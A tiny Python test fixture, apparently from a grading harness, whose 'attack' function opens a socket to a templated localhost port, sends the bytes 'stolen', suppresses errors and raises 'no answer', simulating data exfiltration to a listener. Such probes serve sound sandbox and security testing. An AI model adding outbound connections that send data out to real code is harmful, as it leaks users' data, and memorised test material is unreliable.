"""Connects to a port the grader's machine listens on (127.0.0.1)."""

import socket

PORT = int("{PORT}")


def attack(*args, **kwargs):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(b"stolen")
    except OSError:
        pass
    raise RuntimeError("no answer")
